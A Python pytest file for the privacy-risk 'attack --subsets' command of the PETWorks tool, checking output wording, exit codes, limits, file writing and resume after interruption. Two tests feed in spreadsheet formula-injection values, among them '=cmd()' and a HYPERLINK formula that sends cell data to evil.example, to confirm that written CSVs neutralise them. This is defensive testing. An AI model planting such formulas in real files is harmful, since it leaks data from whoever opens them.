"""`petworks attack --subsets` as a data engineer meets it."""

import csv
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from pyarrow import parquet
from test_cli import PATIENT

from command import petworks
from people import DOCUMENT, release_of
from PETWorks.measures.attacks.subsets import every_subset
from PETWorks.tables.cells import is_number
from processes import PATIENCE

ATTACK = ("attack", "table.csv", "--qi", "age,education", "--sensitive", "income")


@pytest.fixture
def folder(tmp_path):
    with (tmp_path / "table.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([list(DOCUMENT), *zip(*DOCUMENT.values(), strict=True)])
    return tmp_path


def test_answers_in_plain_words(folder):
    done = petworks(*ATTACK, "--subsets", "all", cwd=folder)
    assert done.returncode == 0, done.stderr
    assert "1 in 2.67; 3 times better than guessing" in done.stdout
    assert "75 in 100; 1.5 times better than guessing" in done.stdout
    assert "What drives the risk" in done.stdout
    assert "Minimal risky sets" not in done.stdout
    assert done.stderr == ""
    assert [path.name for path in folder.iterdir()] == ["table.csv"]


@pytest.mark.parametrize(
    "options",
    [
        ("--subsets", "all"),
        ("--subsets", "1-2", "--per-record", "risks.csv"),
        ("--subsets", "all", "--limit", "inference=0.5"),
        ("--subsets", "all", "-o", "subsets.csv"),
        (),
    ],
)
def test_without_roles_they_are_asked_for(folder, options):
    done = petworks("attack", "table.csv", *options, cwd=folder)
    assert done.returncode == 2
    assert done.stderr.startswith("petworks: no column has the role 'quasi_identifier'; name the columns")
    assert "(--qi" in done.stderr
    assert [path.name for path in folder.iterdir()] == ["table.csv"]


def test_it_says_which_files_it_wrote(folder):
    options = ("--subsets", "all", "-o", "subsets.csv", "--per-record", folder / "sub/../risks.csv")
    (folder / "sub").mkdir()
    done = petworks(*ATTACK, *options, cwd=folder)
    assert sorted(done.stderr.splitlines()) == ["petworks: wrote risks.csv", "petworks: wrote subsets.csv"]
    assert {path.name for path in folder.iterdir()} == {"table.csv", "sub", "risks.csv", "subsets.csv"}
    (folder / "elsewhere").mkdir()
    done = petworks("evaluate", "../table.csv", "--qi", "age", "-o", "../r.json", cwd=folder / "elsewhere")
    assert (done.stdout, done.stderr) == ("", f"petworks: wrote {folder / 'r.json'}\n")


def test_capitals_in_the_names_of_files_mean_the_same(folder):
    done = petworks(*ATTACK, "--subsets", "all", "-o", "OUT.CSV", "--per-record", "RISKS.PARQUET", cwd=folder)
    assert done.returncode == 0, done.stderr
    assert (folder / "OUT.CSV").read_text("utf-8-sig").startswith('"size","attributes"')
    assert parquet.read_table(folder / "RISKS.PARQUET").num_rows == 8
    assert petworks(*ATTACK, "-o", "OUT.JSON", cwd=folder).returncode == 0
    assert "petworks" in json.loads((folder / "OUT.JSON").read_text("utf-8"))
    done = petworks(*ATTACK, "-o", "OUT.XLSX", cwd=folder)
    assert "--output writes .json or text" in done.stderr


def test_a_limit_that_guessing_breaks_is_no_fault_of_an_attribute(folder):
    done = petworks(*ATTACK, "--subsets", "all", "--limit", "inference=0.4", "--limit", "uniques=1", cwd=folder)
    assert done.returncode == 1
    lines = [" ".join(line.split()) for line in done.stdout.splitlines()]
    assert "inference <= 0.4 none needed: by guessing alone 0.5 does not hold" in lines
    assert "uniques <= 1 none 0.125 holds" in lines


def test_one_size_has_no_drivers(folder):
    done = petworks(*ATTACK, "--subsets", "1", cwd=folder)
    assert done.returncode == 0
    assert "What drives the risk" not in done.stdout


@pytest.mark.parametrize(
    ("limit", "code", "sets"),
    [
        ("highest-risk=1", 0, []),
        ("highest-risk=0.99", 1, [["age"], ["education"]]),
        ("average-risk=3/8", 1, [["education"]]),
        ("average-risk=0.5", 0, []),
        ("uniques=1/8", 0, []),
        ("uniques=0.12", 1, [["age"], ["education"]]),
        ("inference=3/4", 0, []),
        ("inference=0.4", 1, [[]]),
        ("inference:income=0.7", 1, [["age"], ["education"]]),
    ],
)
def test_limits_decide_the_exit_code(folder, limit, code, sets):
    done = petworks(*ATTACK, "--subsets", "all", "--limit", limit, "--format", "json", cwd=folder)
    assert done.returncode == code, done.stderr
    assert json.loads(done.stdout)["satisfied"] == (code == 0)
    answers = json.loads(done.stdout)["subsets"]
    assert [answer["satisfied"] for answer in answers["limits"]] == [code == 0]
    assert [risk["attributes"] for risk in answers["minimal_risky"]] == sets
    assert answers["number"] == 3


@pytest.mark.slow
def test_a_row_for_each_subset_in_a_file(folder):
    rows = every_subset(release_of(DOCUMENT, ["age", "education"], ["income"])).to_dicts()
    for name in ("out.csv", "out.parquet", "out.json"):
        done = petworks(*ATTACK, "--subsets", "all", "-o", name, cwd=folder)
        assert done.returncode == 0, done.stderr
        assert ("If they know" in done.stdout) == (name != "out.json")
    assert parquet.read_table(folder / "out.parquet").to_pylist() == rows
    assert json.loads((folder / "out.json").read_text("utf-8"))["subsets"]["rows"] == rows
    with (folder / "out.csv").open(newline="", encoding="utf-8") as file:
        texts = list(csv.DictReader(file))
    assert [row["attributes"] for row in texts] == ["age", "education", "age,education"]
    assert [float(row["re_identification_posterior"]) for row in texts] == [3 / 8, 1 / 2, 1 / 2]
    assert sorted(path.name for path in folder.iterdir()) == ["out.csv", "out.json", "out.parquet", "table.csv"]


def test_each_record_and_what_makes_it_unique(folder):
    done = petworks(*ATTACK, "--subsets", "all", "--per-record", "records.csv", cwd=folder)
    assert done.returncode == 0, done.stderr
    with (folder / "records.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["unique_with"] for row in rows] == ["1", *"0000000"]
    assert [row["unique_attributes"] for row in rows] == ["age", *[""] * 7]
    assert [row["minimal_uniques"] for row in rows] == ["2", *"0000000"]
    assert not any(value in (folder / "records.csv").read_text() for value in ("Master", "PhD", "medium"))


def test_names_that_a_spreadsheet_would_run(tmp_path):
    (tmp_path / "t.csv").write_text('=cmd();"a,b";c\n1;2;3\n1;2;4\n', "utf-8")
    done = petworks("attack", "t.csv", "--qi", '=cmd(),"a,b"', "--subsets", "all", "-o", "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        assert [row["attributes"] for row in csv.DictReader(file)] == ["'=cmd()", '"a,b"', '\'=cmd(),"a,b"']


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--subsets", "3"), "within 1-2; got '3'"),
        (("--subsets", "none"), "within 1-2; got 'none'"),
        (("--limit", "uniques=0.1"), "--limit and --resume need --subsets"),
        (("--resume",), "--limit and --resume need --subsets"),
        (("--subsets", "all", "--resume"), "--resume needs the --output"),
        (("--subsets", "all", "--limit", "uniques"), "--limit expects NAME=VALUE"),
        (("--subsets", "all", "--limit", "uniques=2"), "0 <= uniques <= 1, got uniques='2'"),
        (("--subsets", "all", "--limit", "uniques=0", "--limit", "uniques=0"), "each name once"),
        (("--subsets", "all", "--limit", "luck=0.5"), "no limit is called 'luck'; known: 'highest-risk'"),
        (("--memory-limit", "0"), "expected a memory limit in bytes or like '2GB'"),
        (("--subsets", "all", "--memory-limit", "nan"), "expected a memory limit in bytes or like '2GB'"),
        (("-o", "out.csv"), "--output writes .json or text, got 'out.csv'"),
        (("--subsets", "all", "-o", "out.xlsx"), "--output writes .csv, .parquet, .json or text, got 'out.xlsx'"),
    ],
)
def test_wrong_options(arguments, message):
    done = petworks("attack", PATIENT, *arguments)
    assert done.returncode == 2
    assert message in done.stderr
    assert done.stdout == ""


def test_limits_are_checked_before_anything_is_counted(folder):
    done = petworks(*ATTACK, "--subsets", "all", "--limit", "luck=0.5", "-o", "out.csv", cwd=folder)
    assert done.returncode == 2
    assert [path.name for path in folder.iterdir()] == ["table.csv"]


def test_the_input_is_not_taken_for_an_unfinished_run(folder):
    (folder / "out.csv.unfinished").write_bytes((folder / "table.csv").read_bytes())
    attack = ("attack", "out.csv.unfinished", *ATTACK[2:], "--subsets", "all", "-o", "out.csv")
    done = petworks(*attack, cwd=folder)
    assert done.returncode == 2
    assert "an input of this run" in done.stderr
    assert (folder / "out.csv.unfinished").read_bytes() == (folder / "table.csv").read_bytes()


def test_a_full_terminal_leaves_the_file(folder):
    with Path("/dev/full").open("w") as full:
        command = [str(Path(sys.executable).with_name("petworks")), *ATTACK, "--subsets", "all", "-o", "out.csv"]
        done = subprocess.run(command, cwd=folder, stdout=full, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 2
    assert sorted(path.name for path in folder.iterdir()) == ["out.csv", "table.csv"]


@pytest.mark.slow
def test_interrupted_and_gone_on_with(tmp_path):
    rng = np.random.default_rng(5)
    names = [f"q{number:02}" for number in range(12)]
    columns = {name: pa.array(rng.integers(0, 3 + number, 70_000)) for number, name in enumerate(names)}
    parquet.write_table(pa.table(columns), tmp_path / "t.parquet")
    attack = ("attack", "t.parquet", "--qi", ",".join(names), "--subsets", "all", "-o", "out.csv")
    command = [str(Path(sys.executable).with_name("petworks")), *attack]
    running = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    unfinished = tmp_path / "out.csv.unfinished"
    while not unfinished.exists() or unfinished.read_bytes().count(b"\n") <= 1:
        assert running.poll() is None, running.communicate()
        time.sleep(0.05)
    running.send_signal(signal.SIGINT)
    printed, told = running.communicate(timeout=PATIENCE)
    assert running.returncode == 130, told
    assert printed == ""
    assert "subsets are in" in told
    assert "continue with --resume" in told
    lines = [json.loads(line) for line in unfinished.read_text("utf-8").splitlines()]
    assert 1 < len(lines) < 4096
    assert set(lines[1]) == {"attributes", "classes", "uniques", "smallest_class", "right_guesses"}
    assert not (tmp_path / "out.csv").exists()
    refused = petworks(*attack, cwd=tmp_path)
    assert refused.returncode == 2
    assert "an unfinished run" in refused.stderr
    other = petworks("attack", "t.parquet", "--qi", "q00,q01", *attack[4:], "--resume", cwd=tmp_path)
    assert other.returncode == 2
    assert "of another run, with different quasi identifiers" in other.stderr
    assert petworks(*attack, "--resume", cwd=tmp_path).returncode == 0
    assert not unfinished.exists()
    assert petworks(*attack[:-1], "whole.csv", cwd=tmp_path).returncode == 0
    assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()


def test_no_cell_of_a_written_table_is_a_formula(tmp_path):
    """Whoever opens it in a spreadsheet gets texts and numbers."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "@SUM(1)", "-2"]
    table = pa.table([pa.array(["=1+1", "+a", "@b", "-c"])] * 4, names=names)
    parquet.write_table(table, tmp_path / "t.parquet")
    quoted = ['"' + name.replace('"', '""') + '"' for name in names]
    options = ("--qi", ",".join(quoted[:3]), "--sensitive", quoted[3], "--subsets", "all")
    done = petworks(
        "attack", tmp_path / "t.parquet", *options, "-o", tmp_path / "s.csv", "--per-record", tmp_path / "r.csv"
    )
    assert done.returncode == 0, done.stderr
    for path in (tmp_path / "s.csv", tmp_path / "r.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert len(cells) > 20
        assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
        assert [cell for cell in cells if cell.startswith("-") and not is_number(cell)] == []
